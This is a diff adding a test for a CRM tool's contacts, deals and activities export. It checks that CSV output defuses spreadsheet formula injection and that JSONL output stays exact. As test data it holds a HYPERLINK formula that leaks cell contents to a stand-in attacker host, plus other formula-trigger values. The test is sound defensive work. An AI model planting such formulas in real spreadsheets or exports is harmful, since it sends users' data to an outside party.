@@ -271,3 +271,71 @@ def test_export_streams_more_rows_than_one_batch(cli, session, now, monkeypatch)
     session.commit()
     rows = export(cli, "contacts", "jsonl")
     assert [r["emails"] for r in rows] == [[f"p{n}@x.example"] for n in range(30)]
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_jsonl_stays_exact(
+    cli, session, make_user, make_company, make_contact, make_deal, now
+):
+    rep = make_user("rep@team.example", name="Rep")
+    company = make_company("-2+3 Holdings", domain="holdings.example", owner=rep)
+    contact = make_contact(
+        FORMULA, email="lead@holdings.example", company=company, title="@SUM(A1:A9)", lead_source="\tWebinar"
+    )
+    deal = make_deal("+Expansion", company=company, contacts=[contact], owner=rep)
+    move_deal_to_stage(session, deal, stage_named(session, "Lost"), now=now, lost_reason="=1+1")
+    for minute, subject in enumerate((FORMULA, "-1.50", "\r\nnew line first", "Plain subject")):
+        # as the sync records a subject from mail: verbatim
+        email = Activity(
+            kind=ActivityKind.EMAIL,
+            occurred_at=now + timedelta(minutes=minute),
+            created_at=now,
+            subject=subject,
+            direction=Direction.IN,
+            snippet="",
+            truncated=False,
+            needs_deal_review=False,
+        )
+        email.contacts.append(contact)
+        session.add(email)
+    session.commit()
+
+    [contact_row] = export(cli, "contacts", "csv")
+    assert (contact_row["name"], contact_row["title"], contact_row["lead_source"]) == (
+        "'" + FORMULA,
+        "'@SUM(A1:A9)",
+        "'\tWebinar",
+    )
+    assert contact_row["company"] == "'-2+3 Holdings"
+    [company_row] = export(cli, "companies", "csv")
+    assert company_row["name"] == "'-2+3 Holdings"
+    [deal_row] = export(cli, "deals", "csv")
+    assert (deal_row["title"], deal_row["company"], deal_row["lost_reason"], deal_row["contacts"]) == (
+        "'+Expansion",
+        "'-2+3 Holdings",
+        "'=1+1",
+        "lead@holdings.example",
+    )
+    subjects = [row["subject"] for row in export(cli, "activities", "csv")]
+    # a plain signed number is a number, not a formula: left as it is
+    assert subjects == ["'" + FORMULA, "-1.50", "'\r\nnew line first", "Plain subject"]
+    raw = cli("export", "activities", "--format", "csv").out
+    assert "\n=" not in raw and ',"=' not in raw and ",=" not in raw
+
+    # JSON lines are for programs: every value exactly as stored
+    [contact_json] = export(cli, "contacts", "jsonl")
+    assert (contact_json["name"], contact_json["title"], contact_json["lead_source"]) == (
+        FORMULA,
+        "@SUM(A1:A9)",
+        "\tWebinar",
+    )
+    [deal_json] = export(cli, "deals", "jsonl")
+    assert (deal_json["title"], deal_json["lost_reason"]) == ("+Expansion", "=1+1")
+    assert [a["subject"] for a in export(cli, "activities", "jsonl")] == [
+        FORMULA,
+        "-1.50",
+        "\r\nnew line first",
+        "Plain subject",
+    ]
